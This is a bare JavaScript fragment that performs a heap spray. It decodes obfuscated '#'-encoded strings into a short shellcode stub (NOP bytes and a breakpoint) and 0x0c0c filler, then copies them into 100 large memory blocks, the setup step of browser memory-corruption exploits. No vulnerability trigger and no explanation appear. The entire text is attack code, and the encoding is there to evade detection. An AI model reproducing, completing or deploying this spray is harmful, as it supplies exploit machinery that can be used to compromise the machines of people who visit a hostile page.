var u = unescape;
var decode = function (s) { return u(s.replace(/#/g, "%")); };
var shellcode = decode("#u9090#u9090#uc033#u50cc");
var spray = decode("#u0c0c#u0c0c");
while (spray.length < 0x40000)
    spray += spray;
var blocks = [];
for (var i = 0; i < 100; i++)
    blocks[i] = spray + shellcode;
